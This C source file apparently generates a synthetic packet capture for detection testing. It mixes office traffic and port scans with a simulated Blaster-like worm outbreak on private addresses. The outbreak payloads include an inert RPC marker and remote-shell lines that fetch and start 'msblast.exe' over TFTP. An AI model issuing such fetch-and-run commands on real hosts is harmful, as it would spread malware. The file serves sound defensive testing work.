// SPDX-License-Identifier: GPL-3.0-or-later
/*
 * Mixed traffic of an office: 2,500 conversations at any time (HTTP, TLS, SMB, DNS), 30 scanners
 * of various ports, and a Blaster-like outbreak that ends with 30 infected hosts, who scan: 60
 * scanners in all. About 765 bytes a packet.
 */
#include "mkcap.h"

#include "base/rng.h"
#include "drill/benign.h"
#include "drill/frame.h"
#include "drill/heap.h"
#include "drill/talk.h"
#include "value/port.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum {
	SESSIONS = 2500,
	OUTBREAK = 30,
	OTHERS = 30,
	SCANNERS = OUTBREAK + OTHERS,
	EXTRA = 256, /* talks of the outbreak under way */
	POOL = 1 << 20,
	CHUNK = 2 * WW_FRAME_MSS, /* acknowledged every second segment (RFC 1122, 4.2.3.2) */
	SCAN_GAP_US = 90000,      /* about 11 addresses a second */
	INFECT_US = 2500000,      /* between two infections */
};

#define START_US INT64_C(1060646400000000) /* 2003-08-12T00:00:00Z */

enum event { PLAY, SCAN, INFECT };

struct scanner {
	uint32_t ip, next;
	uint16_t port, sport;
};

struct mixed {
	struct ww_pcap_out *out;
	struct ww_rng rng;
	struct ww_drill_heap heap;
	struct ww_talk *talks[SESSIONS + EXTRA];
	struct scanner scanners[SCANNERS];
	int n_infected;
	uint16_t ip_id[65536]; /* by the low half of the address */
	char *words, *noise;   /* POOL bytes each */
	uint64_t bytes;
	int64_t now_us;
	int error;
};

static uint64_t below(struct mixed *mixed, uint64_t n)
{
	return ww_rng_below(&mixed->rng, n);
}

/* Words of syllables with markup between, and bytes as ciphers have them. */
static int make_pools(struct mixed *mixed)
{
	static const char syllables[][4] = {"ka", "ri", "mo", "ten", "sel", "va", "nor", "di", "pu",
		"lec", "tra", "go", "fi", "ba", "que", "xo", "in", "ser", "wa", "zu"};
	static const char *const between[] = {" ", " ", " ", ", ", ". ", "\r\n", "<p>", "</p>\r\n",
		"<a href=\"/page\">", "</a>", "&nbsp;", "<br>"};
	struct ww_buf words = WW_BUF_INIT, noise = WW_BUF_INIT;
	while (words.len < POOL && !words.failed) {
		for (uint64_t n = 1 + below(mixed, 4); n > 0; n--)
			ww_buf_adds(&words, syllables[below(mixed, WW_N(syllables))]);
		ww_buf_adds(&words, between[below(mixed, WW_N(between))]);
	}
	while (noise.len < POOL && !noise.failed) {
		uint64_t drawn = ww_rng_u64(&mixed->rng);
		ww_buf_add(&noise, &drawn, sizeof(drawn));
	}
	mixed->words = ww_buf_take(&words);
	mixed->noise = ww_buf_take(&noise);
	return mixed->words && mixed->noise ? 0 : -ENOMEM;
}

static void say_long(
	struct mixed *mixed, struct ww_talk *talk, int side, const char *bytes, size_t len)
{
	while (len > 0) {
		size_t n = len < CHUNK ? len : CHUNK;
		ww_talk_wait(talk, (int64_t)below(mixed, 1000000));
		ww_talk_say(talk, side, bytes, n, NULL);
		bytes += n;
		len -= n;
	}
}

static void compose_http(struct mixed *mixed, struct ww_talk *talk)
{
	struct ww_buf line = WW_BUF_INIT;
	for (uint64_t turn = 1 + below(mixed, 2); turn > 0; turn--) {
		/* One draw a statement: the order inside an expression is the compiler's. */
		size_t len = 6000 + below(mixed, 50000);
		const char *folder = &"articles"[below(mixed, 6)];
		unsigned page = (unsigned)below(mixed, 5000), site = (unsigned)below(mixed, 300);
		unsigned id = (unsigned)below(mixed, UINT32_MAX);
		unsigned cookie = (unsigned)below(mixed, UINT32_MAX);
		ww_buf_reset(&line);
		ww_buf_addf(&line,
			"GET /%.8s/%u.html?id=%08x HTTP/1.1\r\nHost: www%u.example.com\r\n"
			"User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n"
			"Accept: */*\r\nCookie: session=%08x\r\nConnection: keep-alive\r\n\r\n",
			folder, page, id, site, cookie);
		say_long(mixed, talk, 0, ww_buf_text(&line), line.len);
		ww_buf_reset(&line);
		ww_buf_addf(&line,
			"HTTP/1.1 200 OK\r\nServer: Apache/1.3.27 (Unix)\r\n"
			"Content-Type: text/html\r\nContent-Length: %zu\r\n\r\n",
			len);
		ww_buf_add(&line, mixed->words + below(mixed, POOL - len), len);
		say_long(mixed, talk, 1, ww_buf_text(&line), line.len);
	}
	talk->failed |= line.failed;
	ww_buf_done(&line);
}

static void compose_tls(struct mixed *mixed, struct ww_talk *talk)
{
	struct ww_buf line = WW_BUF_INIT;
	uint64_t n_turns = 1 + below(mixed, 5);
	for (uint64_t turn = 0; turn <= n_turns; turn++) {
		for (int side = 0; side < 2; side++) {
			size_t room = side ? 6000 + below(mixed, 10000) : 60 + below(mixed, 700);
			ww_buf_reset(&line);
			ww_benign_message(&line, WW_BENIGN_TLS, turn, side, room, 0, &mixed->rng);
			/* Ciphertext behind the record's header of five bytes. */
			if (turn > 0 && !line.failed)
				memcpy(line.data + 5, mixed->noise + below(mixed, POOL - room - 16),
					line.len - 5);
			say_long(mixed, talk, side, ww_buf_text(&line), line.len);
		}
	}
	talk->failed |= line.failed;
	ww_buf_done(&line);
}

static void compose_turns(
	struct mixed *mixed, struct ww_talk *talk, enum ww_benign kind, uint64_t n)
{
	struct ww_buf line = WW_BUF_INIT;
	uint16_t id = (uint16_t)ww_rng_u64(&mixed->rng);
	for (uint64_t turn = 0; turn < n; turn++) {
		for (int side = 0; side < 2; side++) {
			ww_buf_reset(&line);
			ww_benign_message(
				&line, kind, turn, side, below(mixed, 1200), id, &mixed->rng);
			talk->failed |= line.failed;
			if (talk->proto == WW_PROTO_UDP)
				ww_talk_datagram(talk, side, line.data, line.len);
			else
				say_long(mixed, talk, side, ww_buf_text(&line), line.len);
		}
	}
	ww_buf_done(&line);
}

static struct ww_talk *new_talk(struct mixed *mixed, uint8_t proto, uint32_t client,
	uint32_t server, uint16_t server_port, int64_t start_us)
{
	uint16_t client_port = (uint16_t)(1025 + below(mixed, 60000));
	struct ww_talk *talk = ww_talk_new(proto, (uint32_t[2]){client, server},
		(uint16_t[2]){client_port, server_port}, 1000 + (uint32_t)below(mixed, 39000),
		start_us, &mixed->rng);
	if (!talk)
		mixed->error = -ENOMEM;
	return talk;
}

static void put(struct mixed *mixed, int64_t at_us, enum event kind, uint32_t id)
{
	struct ww_drill_event event = {.at_us = at_us, .kind = kind, .id = id};
	int rc = ww_drill_heap_push(&mixed->heap, event);
	mixed->error = mixed->error ? mixed->error : rc;
}

static void start(struct mixed *mixed, uint32_t slot, struct ww_talk *talk)
{
	mixed->talks[slot] = talk;
	if (talk && talk->failed)
		mixed->error = -ENOMEM;
	if (talk && talk->n_packets)
		put(mixed, talk->packets[0].at_us, PLAY, slot);
}

/* The next conversation of a slot. */
static void start_session(struct mixed *mixed, uint32_t slot)
{
	static const struct {
		enum ww_benign kind;
		uint8_t proto;
		uint16_t port;
	} kinds[] = {
		{WW_BENIGN_HTTP, WW_PROTO_TCP, 80},
		{WW_BENIGN_TLS, WW_PROTO_TCP, 443},
		{WW_BENIGN_SMB, WW_PROTO_TCP, 445},
		{WW_BENIGN_DNS, WW_PROTO_UDP, 53},
	};
	uint64_t drawn = below(mixed, 100);
	int which = drawn < 52 ? 0 : drawn < 90 ? 1 : drawn < 94 ? 2 : 3;
	uint32_t client = 10u << 24 | 20u << 16 | (uint32_t)(256 + below(mixed, 4000));
	uint32_t server = 10u << 24 | 30u << 16 | (uint32_t)(256 + below(mixed, 500));
	int64_t at_us = mixed->now_us + (int64_t)below(mixed, 2000000);
	struct ww_talk *talk =
		new_talk(mixed, kinds[which].proto, client, server, kinds[which].port, at_us);
	if (!talk)
		return;
	if (kinds[which].proto == WW_PROTO_TCP)
		ww_talk_connect(talk);
	if (which == 0)
		compose_http(mixed, talk);
	else if (which == 1)
		compose_tls(mixed, talk);
	else
		compose_turns(mixed, talk, kinds[which].kind, which == 2 ? 12 : 1);
	if (kinds[which].proto == WW_PROTO_TCP)
		ww_talk_close(talk, (int)below(mixed, 2));
	start(mixed, slot, talk);
}

/* A place for a talk of the outbreak; its conversations are few and short. */
static uint32_t free_slot(const struct mixed *mixed)
{
	for (uint32_t slot = SESSIONS; slot < SESSIONS + EXTRA; slot++)
		if (!mixed->talks[slot])
			return slot;
	return SESSIONS;
}

static int64_t play_transfer(struct mixed *mixed, uint32_t parent, uint32_t victim, int64_t at_us)
{
	struct ww_talk *talk = new_talk(mixed, WW_PROTO_UDP, victim, parent, 69, at_us);
	if (!talk)
		return at_us;
	ww_talk_datagram(talk, 0, "\0\1msblast.exe\0octet", 20);
	for (int block = 1; block <= 13; block++) {
		uint8_t bytes[516] = {0, 3, 0, (uint8_t)block};
		size_t len = block < 13 ? 512 : 32; /* 6,176 bytes */
		memcpy(bytes + 4, mixed->words + (size_t)block * 512, len);
		ww_talk_datagram(talk, 1, bytes, 4 + len);
		bytes[1] = 4;
		ww_talk_datagram(talk, 0, bytes, 4);
	}
	int64_t end_us = talk->clock_us;
	start(mixed, free_slot(mixed), talk);
	return end_us;
}

static int64_t play_shell(struct mixed *mixed, uint32_t parent, uint32_t victim, int64_t at_us)
{
	char line[64];
	struct ww_talk *talk = new_talk(mixed, WW_PROTO_TCP, parent, victim, 4444, at_us);
	if (!talk)
		return at_us;
	int len = snprintf(line, sizeof(line), "tftp -i %u.%u.%u.%u GET msblast.exe\n",
		parent >> 24, parent >> 16 & 255, parent >> 8 & 255, parent & 255);
	ww_talk_connect(talk);
	ww_talk_say(talk, 1, "Microsoft Windows 2000 [Version 5.00.2195]\r\nC:\\WINNT\\system32>",
		63, NULL);
	ww_talk_say(talk, 0, line, (size_t)len, NULL);
	talk->clock_us = play_transfer(mixed, parent, victim, talk->clock_us + 100000) + 500000;
	ww_talk_say(talk, 0, "start msblast.exe\n", 18, NULL);
	ww_talk_close(talk, 0);
	int64_t end_us = talk->clock_us;
	start(mixed, free_slot(mixed), talk);
	return end_us;
}

/* The inert marker of the rule, the shell, the transfer; then the victim scans. */
static void infect(struct mixed *mixed)
{
	static const char marker[] =
		"\5\0\x0b\3inert marker of a bench capture\0\\\0\\AAAAAAAAAAAAAAAAAAAA"
		"AAAAAAAAAAAAAAAAAAAA";
	uint32_t parent = mixed->scanners[below(mixed, (uint64_t)mixed->n_infected)].ip;
	struct scanner *victim = &mixed->scanners[mixed->n_infected];
	struct ww_talk *talk =
		new_talk(mixed, WW_PROTO_TCP, parent, victim->ip, 135, mixed->now_us);
	if (!talk)
		return;
	ww_talk_connect(talk);
	ww_talk_say(talk, 0, marker, sizeof(marker) - 1, NULL);
	ww_talk_close(talk, 0);
	int64_t shell_us = talk->clock_us + 400000;
	start(mixed, free_slot(mixed), talk);
	int64_t end_us = play_shell(mixed, parent, victim->ip, shell_us);
	printf("{\"type\":\"infection\",\"ip\":\"10.20.%u.%u\",\"parent\":\"10.20.%u.%u\"}\n",
		victim->ip >> 8 & 255, victim->ip & 255, parent >> 8 & 255, parent & 255);
	put(mixed, end_us + 1000000, SCAN, (uint32_t)mixed->n_infected++);
	if (mixed->n_infected < OUTBREAK)
		put(mixed, mixed->now_us + INFECT_US, INFECT, 0);
}

static void make_scanners(struct mixed *mixed)
{
	static const uint16_t ports[] = {445, 80, 22, 1433, 139};
	for (uint32_t i = 0; i < SCANNERS; i++) {
		struct scanner *scanner = &mixed->scanners[i];
		bool is_worm = i < OUTBREAK;
		scanner->ip = 10u << 24 | 20u << 16 | (is_worm ? 200u : 210u) << 8 | (i + 1);
		scanner->next = 172u << 24 | 16u << 16 | (uint32_t)below(mixed, 1 << 12) << 8;
		scanner->port = is_worm ? 135 : ports[i % WW_N(ports)];
		scanner->sport = (uint16_t)(1025 + below(mixed, 3000));
		printf("{\"type\":\"scanner\",\"ip\":\"10.20.%u.%u\",\"port\":%u}\n",
			scanner->ip >> 8 & 255, scanner->ip & 255, scanner->port);
		if (!is_worm)
			put(mixed, mixed->now_us + (int64_t)below(mixed, 5000000), SCAN, i);
	}
	mixed->n_infected = 1;
	put(mixed, mixed->now_us + 500000, SCAN, 0);
	put(mixed, mixed->now_us + 1000000, INFECT, 0);
}

static void write_frame(struct mixed *mixed, int64_t at_us, const uint8_t *frame, size_t len)
{
	int rc = ww_pcap_out_write(mixed->out, at_us, frame, (uint32_t)len, (uint32_t)len);
	mixed->error = mixed->error ? mixed->error : rc;
	mixed->bytes += 16 + len;
}

static uint16_t next_ip_id(struct mixed *mixed, uint32_t ip)
{
	uint16_t *id = &mixed->ip_id[ip & 0xffff];
	*id = *id == 0xffff ? 1 : *id + 1;
	return *id;
}

static void play(struct mixed *mixed, uint32_t slot)
{
	uint8_t frame[WW_FRAME_MAX];
	struct ww_talk *talk = mixed->talks[slot];
	const struct ww_talk_packet *packet = &talk->packets[talk->next++];
	uint32_t src = talk->ip[packet->from];
	struct ww_frame_ends ends = {.src = src,
		.dst = talk->ip[!packet->from],
		.sport = packet->sport,
		.dport = packet->dport,
		.ip_id = next_ip_id(mixed, src),
		.ttl = 1};
	struct ww_frame_segment segment = {
		.seq = packet->seq, .ack = packet->ack, .flags = packet->flags, .window = 64240};
	const char *payload = packet->len ? talk->bytes.data + packet->offset : NULL;
	size_t len = talk->proto == WW_PROTO_UDP
			     ? ww_frame_encode_udp(frame, &ends, payload, packet->len)
			     : ww_frame_encode_tcp(frame, &ends, &segment, payload, packet->len);
	write_frame(mixed, packet->at_us, frame, len);
	if (talk->next < talk->n_packets) {
		put(mixed, talk->packets[talk->next].at_us, PLAY, slot);
		return;
	}
	ww_talk_free(&mixed->talks[slot]);
	if (slot < SESSIONS)
		start_session(mixed, slot);
}

static void scan(struct mixed *mixed, uint32_t which)
{
	uint8_t frame[WW_FRAME_MAX];
	struct scanner *scanner = &mixed->scanners[which];
	uint32_t any = 172u << 24 | 16u << 16 | (uint32_t)below(mixed, 1 << 20);
	scanner->sport = scanner->sport < 1025 ? 1025 : scanner->sport + 1;
	struct ww_frame_ends ends = {.src = scanner->ip,
		.dst = which < OUTBREAK ? scanner->next++ : any,
		.sport = scanner->sport,
		.dport = scanner->port,
		.ip_id = next_ip_id(mixed, scanner->ip),
		.ttl = 1};
	struct ww_frame_segment segment = {
		.seq = (uint32_t)ww_rng_u64(&mixed->rng), .flags = WW_FRAME_SYN, .window = 16384};
	write_frame(
		mixed, mixed->now_us, frame, ww_frame_encode_tcp(frame, &ends, &segment, NULL, 0));
	put(mixed, mixed->now_us + (int64_t)below(mixed, 2 * SCAN_GAP_US), SCAN, which);
}

static void run(struct mixed *mixed, uint64_t bytes)
{
	struct ww_drill_event event;
	for (uint32_t slot = 0; slot < SESSIONS; slot++)
		start_session(mixed, slot);
	make_scanners(mixed);
	while (mixed->error == 0 && mixed->bytes < bytes &&
		ww_drill_heap_take(&mixed->heap, &event)) {
		mixed->now_us = event.at_us;
		switch ((enum event)event.kind) {
		case PLAY: play(mixed, event.id); break;
		case SCAN: scan(mixed, event.id); break;
		case INFECT: infect(mixed); break;
		}
	}
}

int mkcap_mixed(struct ww_pcap_out *out, const struct mkcap_size *size)
{
	struct mixed *mixed = calloc(1, sizeof(*mixed));
	if (!mixed)
		return -ENOMEM;
	mixed->out = out;
	mixed->rng = ww_rng_seeded(size->seed);
	mixed->heap = ww_drill_heap_init(1 << 16);
	mixed->now_us = START_US;
	int rc = make_pools(mixed);
	if (rc == 0) {
		run(mixed, size->bytes);
		rc = mixed->error;
	}
	for (uint32_t slot = 0; slot < SESSIONS + EXTRA; slot++)
		ww_talk_free(&mixed->talks[slot]);
	ww_drill_heap_done(&mixed->heap);
	free(mixed->words);
	free(mixed->noise);
	free(mixed);
	return rc;
}
